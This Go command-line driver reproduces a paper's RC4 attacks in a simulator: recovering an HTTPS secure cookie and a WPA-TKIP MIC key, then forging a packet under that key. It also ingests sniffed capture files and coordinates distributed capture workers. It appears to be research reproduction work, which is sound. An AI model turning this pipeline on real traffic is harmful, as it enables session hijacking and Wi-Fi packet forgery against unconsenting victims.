// Command rc4attack runs either of the paper's attacks end to end in the
// in-process simulator: the §6 HTTPS cookie attack (-attack cookie) or the
// §5 WPA-TKIP Michael MIC key attack (-attack tkip). Both are one pipeline,
// built by internal/job: capture (sampled sufficient statistics, exact
// records or frames, or sniffed capture files), fold into evidence, list
// decode, and walk the candidates against the oracle — the server for a
// cookie (§6.2), the ICV/Michael check with a confirming forgery for a
// TKIP trailer (§5.3, §7.4). Every decode runs through the online loop:
// once at -budget by default, or on a cadence with -first-decode or
// -decode-every, stopping at the first confirmed candidate:
//
//	rc4attack -attack cookie                           # 9·2^27 records, one decode
//	rc4attack -attack tkip -model tkip.model           # train once, reuse the model
//	rc4attack -attack cookie -first-decode 1048576     # decode at 2^20, 2^21, ...
//	rc4attack -attack tkip -decode-every 1048576       # decode every 2^20 frames
//
// Captures are shards that can be killed, resumed and merged. Exact
// capture checkpoints every -checkpoint-every observations, and Ctrl-C
// flushes the checkpoint at the next fold batch and exits 130:
//
//	rc4attack -mode exact -budget 4194304 -seed 1 -checkpoint s1.snap -collect-only
//	rc4attack -mode exact -budget 4194304 -seed 1 -checkpoint s1.snap -resume s1.snap -collect-only
//	rc4attack -budget 603979776 -seed 2 -checkpoint s2.snap -collect-only
//	rc4attack -budget 0 -merge s1.snap,s2.snap         # one decode over the pool
//
// -fleet-worker joins a cmd/fleetd coordinator as a capture worker, and
// -write-pcap and -pcap write and ingest capture files:
//
//	rc4attack -attack cookie -fleet-worker coordinator:7100 -worker-id m1
//	rc4attack -attack tkip -write-pcap tkip.pcap -budget 9437184
//	rc4attack -attack tkip -pcap tkip.pcap -budget 9437184 -model tkip.model
package main

import (
	"context"
	"encoding/hex"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"slices"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/job"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
)

func main() {
	err := run(os.Args[1:], os.Stdout)
	switch {
	case err == nil, errors.Is(err, flag.ErrHelp):
	case errors.Is(err, job.ErrInterrupted):
		os.Exit(130)
	case errors.Is(err, errUsage):
		fmt.Fprintln(os.Stderr, "rc4attack:", err)
		os.Exit(2)
	default:
		fmt.Fprintln(os.Stderr, "rc4attack:", err)
		os.Exit(1)
	}
}

// errUsage marks errors in the command line itself.
var errUsage = errors.New("usage")

func usagef(format string, args ...interface{}) error {
	return fmt.Errorf("%w: %s", errUsage, fmt.Sprintf(format, args...))
}

// run parses args and runs the attack, writing its narrative and the -json
// line to w. A run whose decode confirms nothing returns the online loop's
// error.
func run(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("rc4attack", flag.ContinueOnError)
	attack := fs.String("attack", "cookie", "attack to run: cookie (§6 HTTPS cookie) | tkip (§5 WPA-TKIP MIC key)")
	mode := fs.String("mode", "model", "capture mode: model (sampled sufficient statistics) | exact (real records or frames; slow beyond ~2^22)")
	seed := fs.Int64("seed", 1, "victim stream seed; give independent shards different seeds (exact TKIP ignores it)")
	budget := fs.Uint64("budget", 0, "records or frames this shard holds when capture ends, resumed ones included (default: the attack's, 9x2^27 records / 9x2^20 frames)")
	candidates := fs.Int("candidates", 0, "candidate walk depth per decode round (default: the attack's, 2^16 cookies / 2^20 trailers; paper: 2^23 / nearly 2^30)")
	secret := fs.String("secret", "Secur3C00kieVal+", "cookie: the 16-character secure cookie to recover")
	modelPath := fs.String("model", "", "tkip: per-TSC model snapshot, loaded if the file exists, otherwise trained and saved there")
	trainKeys := fs.Uint64("trainkeys", job.Defaults["tkip"].TrainKeys, "tkip: training keys per TSC class (paper: 2^32)")
	workers := fs.Int("workers", 0, "parallel workers for training, capture and decoding (0 = GOMAXPROCS)")
	checkpoint := fs.String("checkpoint", "", "snapshot written when capture ends and after every unsuccessful decode round; exact capture also writes it every -checkpoint-every observations and on Ctrl-C")
	checkpointEvery := fs.Uint64("checkpoint-every", 0, "observations between exact-mode checkpoints (default: the attack's, 2^22 records / 2^20 frames)")
	resume := fs.String("resume", "", "snapshot to resume this shard from")
	merge := fs.String("merge", "", "comma-separated shard snapshots to merge into this shard's evidence, then decode the pool once")
	collectOnly := fs.Bool("collect-only", false, "capture to -budget, write -checkpoint and stop without decoding")
	firstDecode := fs.Uint64("first-decode", online.DefaultFirstDecode, "decode on a cadence, first at this many observations (with neither cadence flag set, the run decodes once at -budget)")
	decodeEvery := fs.Uint64("decode-every", 0, "decode on a cadence, every this many observations (0 = geometric from -first-decode)")
	fleetWorker := fs.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := fs.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := fs.String("pcap", "", "ingest evidence from capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from them")
	writePcap := fs.String("write-pcap", "", "write the first -budget observations of the exact victim stream as a capture file and exit (.pcapng selects pcapng, else classic pcap)")
	jsonOut := fs.Bool("json", false, "append one machine-readable JSON result line to the output")
	if err := fs.Parse(args); err != nil {
		if errors.Is(err, flag.ErrHelp) {
			return err
		}
		return usagef("%v", err)
	}
	if fs.NArg() > 0 {
		return usagef("unexpected arguments %q", fs.Args())
	}
	set := make(map[string]bool)
	fs.Visit(func(f *flag.Flag) { set[f.Name] = true })

	d, ok := job.Defaults[*attack]
	if !ok {
		return usagef("unknown -attack %q (want cookie or tkip)", *attack)
	}
	if !set["budget"] {
		*budget = d.Budget
	}
	if !set["candidates"] {
		*candidates = d.Candidates
	}
	if !set["checkpoint-every"] {
		*checkpointEvery = d.CheckpointEvery
	}
	cadenced := set["first-decode"] || set["decode-every"]
	switch {
	case *attack == "cookie" && len(*secret) != 16:
		return usagef("-secret must be 16 characters, got %d", len(*secret))
	case *attack == "cookie" && (set["model"] || set["trainkeys"]):
		return usagef("-model and -trainkeys apply to the tkip attack only")
	case *attack == "tkip" && set["secret"]:
		return usagef("-secret applies to the cookie attack only")
	case cadenced && (*merge != "" || *collectOnly || *pcapIn != ""):
		return usagef("-first-decode and -decode-every pace a live capture; -merge, -collect-only and -pcap capture first and decode once")
	}

	spec := job.Spec{Attack: *attack, Mode: *mode, Seed: *seed, Workers: *workers}
	if *attack == "cookie" {
		spec.Secret = *secret
	}
	logf := func(format string, args ...interface{}) { fmt.Fprintf(w, "      "+format+"\n", args...) }
	if *writePcap != "" {
		fmt.Fprintf(w, "[1/1] writing %d observations of the exact %s victim stream -> %s\n", *budget, *attack, *writePcap)
		return job.WriteTrace(spec, *writePcap, *budget)
	}
	var err error
	if *pcapIn != "" {
		if spec.Traces, err = cliutil.ExpandGlobs(*pcapIn); err != nil {
			return fmt.Errorf("-pcap: %w", err)
		}
	}
	var model *tkip.PerTSCModel
	if *attack == "tkip" {
		if model, err = job.LoadOrTrainModel(*modelPath, *trainKeys, *workers, func(format string, args ...interface{}) {
			fmt.Fprintf(w, "[1/3] "+format+"\n", args...)
		}); err != nil {
			return err
		}
	}
	if *fleetWorker != "" {
		return runWorker(w, *fleetWorker, *workerID, spec, model, logf)
	}

	var evidence []byte
	if *resume != "" {
		if evidence, err = os.ReadFile(*resume); err != nil {
			return fmt.Errorf("resume %s: %w", *resume, err)
		}
	}
	j, err := job.New(spec, evidence, model)
	if err != nil && *resume != "" {
		return fmt.Errorf("resume %s: %w", *resume, err)
	}
	if err != nil {
		return err
	}
	if j.Cookie != nil {
		anchors := j.Cookie.AnchorsPerPair()
		fmt.Fprintf(w, "[1/3] aligned request crafted (cookie first in header, padding after): %d..%d ABSAB anchors per pair (paper: 2x129)\n",
			slices.Min(anchors), slices.Max(anchors))
	}
	if *resume != "" {
		logf("resumed %s: %d %s of evidence", *resume, j.Observed(), j.Unit())
	}

	// Pooled and ingested evidence is captured first, saved as this shard's
	// snapshot, and decoded once at whatever it holds; the pool is never
	// written over the shard.
	ctx := context.Background()
	path := *checkpoint
	var captured time.Duration
	precapture := *collectOnly || *merge != "" || spec.Traces != nil
	if precapture {
		if captured, err = collect(ctx, w, j, *budget, *checkpointEvery, path); err != nil {
			return err
		}
		if *collectOnly {
			logf("collect-only: skipping the decode")
			return nil
		}
		if err := j.Merge(cliutil.SplitList(*merge), logf); err != nil {
			return err
		}
		*budget, path = j.Observed(), ""
	}

	cad := online.Cadence{First: *budget}
	plan := fmt.Sprintf("one decode at %d", *budget)
	if cadenced {
		cad = online.Cadence{First: *firstDecode, Every: *decodeEvery}
		plan = fmt.Sprintf("%s cadence from %d", cad, cad.First)
	}
	step := "[2/3]"
	if precapture {
		step = "     " // collect printed [2/3]
	}
	fmt.Fprintf(w, "%s %s attack, %s mode: budget %d %s, %s, %d candidates per round...\n",
		step, *attack, j.Spec.Stream().Mode, *budget, j.Unit(), plan, *candidates)
	res, err := j.Online(ctx, online.Config{
		Cadence:       cad,
		MaxCandidates: *candidates,
		Budget:        *budget,
		Logf:          logf,
	}, *checkpointEvery, path)
	if errors.Is(err, job.ErrInterrupted) {
		return err
	}
	res.CaptureTime += captured
	res.Elapsed += captured
	return report(w, j, *budget, res, err, *jsonOut)
}

// collect captures the shard to budget through the CLI feed, saves it to
// path when set, and reports how long the capture took.
func collect(ctx context.Context, w io.Writer, j *job.Job, budget, every uint64, path string) (time.Duration, error) {
	var todo uint64
	if budget > j.Observed() {
		todo = budget - j.Observed()
	}
	fmt.Fprintf(w, "[2/3] capturing %d %s (%s mode; %.1f h of live traffic)...\n",
		todo, j.Unit(), j.Spec.Stream().Mode, liveHours(j, todo))
	start := time.Now()
	if err := j.CLIFeed(ctx, every, path).AdvanceTo(budget); err != nil {
		return 0, err
	}
	took := time.Since(start)
	if len(j.Spec.Traces) > 0 {
		c, t := j.CookieTrace, j.TKIPTrace
		ingested, counts := t.Bytes, fmt.Sprintf("%d packets, %d TKIP frames (%d matched, %d dup, %d frag, %d other-length, %d skipped)",
			t.Packets, t.Frames, t.Matched, t.Duplicates, t.Fragmented, t.OtherLength, t.Skipped)
		if j.Cookie != nil {
			ingested, counts = c.Bytes, fmt.Sprintf("%d packets, %d TLS records (%d matched, %d other), %d flows abandoned",
				c.Packets, c.Records, c.Matched, c.OtherRecords, c.DeadFlows)
		}
		mb := float64(ingested) / (1 << 20)
		fmt.Fprintf(w, "      trace ingest: %s; %.1f MB of capture payload at %.1f MB/s\n", counts, mb, mb/took.Seconds())
	}
	fmt.Fprintf(w, "      captured in %v (shard evidence: %d %s)\n", took.Round(time.Millisecond), j.Observed(), j.Unit())
	if path == "" {
		return took, nil
	}
	if err := j.Save(path); err != nil {
		return 0, err
	}
	fmt.Fprintf(w, "      snapshot -> %s\n", path)
	return took, nil
}

// liveHours is how long a live attack takes to capture n observations at
// the paper's rates: the idle browser's requests (§6.3) or the injected
// frames (§5.4).
func liveHours(j *job.Job, n uint64) float64 {
	rate := float64(netsim.TKIPInjectionPerSecond)
	if j.Cookie != nil {
		rate = netsim.HTTPSRequestsPerSecond
	}
	return float64(n) / rate / 3600
}

// report prints the outcome of the online run and, with jsonOut, its JSON
// line last. A TKIP success also demonstrates a forgery under the
// recovered MIC key.
func report(w io.Writer, j *job.Job, budget uint64, res online.Result, runErr error, jsonOut bool) error {
	r := cliutil.OnlineRunResult(j.Spec.Attack, j.Spec.Stream().Mode, res, runErr)
	if runErr != nil {
		fmt.Fprintf(w, "      attack failed: %v (budget %d %s; try a larger budget or more -candidates)\n", runErr, budget, j.Unit())
	} else {
		fmt.Fprintf(w, "[3/3] confirmed at rank %d after %d %s of the %d budget (%.1f h of live capture)\n",
			res.Rank, res.Observed, j.Unit(), budget, liveHours(j, res.Observed))
		fmt.Fprintf(w, "      %d decode rounds, %d oracle checks (+%d cache-skipped), wall-clock %v (capture %v, decode %v, oracle %v)\n",
			res.Rounds, res.Checks, res.Skipped, res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
			res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
		if oracle, ok := j.Oracle.(*tkip.TrailerOracle); ok {
			r.Plaintext = hex.EncodeToString(oracle.MICKey[:])
			fmt.Fprintf(w, "      recovered MIC key: %x (%d ICV passes)\n", oracle.MICKey, oracle.ICVPasses)
			if err := forge(w, oracle); err != nil {
				r.Success, r.Error, runErr = false, err.Error(), err
			}
		} else {
			fmt.Fprintf(w, "      recovered cookie %q (%.1f s of live server checks at %d/s) — attack complete\n",
				res.Plaintext, float64(res.Checks)/netsim.BruteForceTestsPerSecond, netsim.BruteForceTestsPerSecond)
		}
	}
	if jsonOut {
		if err := r.Write(w); err != nil {
			return err
		}
	}
	return runErr
}

// forge demonstrates the TKIP attack's impact: a packet forged under the
// recovered MIC key must be accepted by the network.
func forge(w io.Writer, oracle *tkip.TrailerOracle) error {
	session := tkip.DemoSession()
	attacker := &tkip.Session{TK: session.TK, MICKey: oracle.MICKey, TA: session.TA, DA: session.DA, SA: session.SA}
	if _, err := session.Decapsulate(attacker.Encapsulate(oracle.MSDU, 0xF00D)); err != nil {
		return fmt.Errorf("forgery rejected: %w", err)
	}
	fmt.Fprintln(w, "      packet forged under the recovered MIC key accepted by the network — attack complete")
	return nil
}

// runWorker joins a cmd/fleetd coordinator and collects leased capture
// lanes until the coordinator declares the run over. A TKIP worker's model
// must be the coordinator's (fingerprint-checked at the door).
func runWorker(w io.Writer, addr, id string, spec job.Spec, model *tkip.PerTSCModel, logf func(string, ...interface{})) error {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	fmt.Fprintf(w, "[2/2] fleet worker joining %s...\n", addr)
	stats, err := job.RunWorker(ctx, addr, id, spec, model, logf)
	logf("worker done: %d lanes (%d observations) uploaded, %d rejected as already covered", stats.Lanes, stats.Records, stats.Rejected)
	if stats.StopReason != "" {
		logf("coordinator: %s", stats.StopReason)
	}
	return err
}
